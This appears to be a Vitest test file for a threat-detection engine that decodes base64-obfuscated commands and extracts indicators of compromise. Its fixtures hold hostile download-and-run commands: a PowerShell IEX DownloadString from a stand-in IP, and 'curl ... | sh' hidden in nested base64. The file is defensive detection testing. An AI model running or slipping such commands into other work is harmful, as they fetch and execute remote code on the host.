/** Commands in base64, decoded for people, and what they name. */
import { expect, test } from 'vitest';
import { extractIndicators } from '../../../server/engine/threat/indicators/extract.ts';
import { decodeCommands, withDecoded } from '../../../server/engine/threat/text/decoded.ts';
import type { Finding } from '../../../server/engine/threat/types.ts';

const command = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
const encoded = Buffer.from(command, 'utf16le').toString('base64');
const text = `ok\npowershell.exe -nop -enc ${encoded}\nok`;
const [start, end] = [text.indexOf('power'), text.indexOf('\nok', 5)];

test('PowerShell -enc', () => {
  const at = text.indexOf(encoded);
  expect(decodeCommands(text)).toEqual([{ start: at, end: at + encoded.length, text: command }]);
});

test('a shell that decodes behind the text, and a command within a command', () => {
  const inner = Buffer.from('curl http://203.0.113.9/x | sh').toString('base64');
  const outer = Buffer.from(`echo ${inner} | base64 -d | sh`).toString('base64');
  expect(decodeCommands(`echo ${outer} | base64 -d | bash`).map(({ text: each }) => each)).toEqual([
    `echo ${inner} | base64 -d | sh`,
    'curl http://203.0.113.9/x | sh',
  ]);
});

test.each([
  'hash e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  `an image ${encoded}`,
  `-enc ${Buffer.from([1, 2, 3, 200, 201, 202, 7, 8, 9, 250, 251, 252, 0, 1, 2]).toString('base64')}`,
])('nothing is decoded of: %s', (line) => {
  expect(decodeCommands(line)).toEqual([]);
});

test('addresses and links of decoded commands are indicators where the base64 stands', () => {
  const decoded = decodeCommands(text);
  const found = extractIndicators(text, [], decoded);
  expect(found.map(({ type, value }) => `${type} ${value}`)).toEqual([
    'process powershell.exe',
    'url http://203.0.113.9/a.ps1',
    'ip 203.0.113.9',
  ]);
  expect(found[1]?.offsets).toEqual([{ start: decoded[0]?.start, end: decoded[0]?.end }]);
});

test('findings hold the commands of their own lines', () => {
  const at = (from: number, to: number) =>
    ({ lines: [{ line: 1, endLine: 1, start: from, end: to }] }) as Finding;
  const [own, other] = withDecoded([at(start, end), at(0, 2)], decodeCommands(text));
  expect(own?.decoded).toEqual([command]);
  expect(other).not.toHaveProperty('decoded');
});
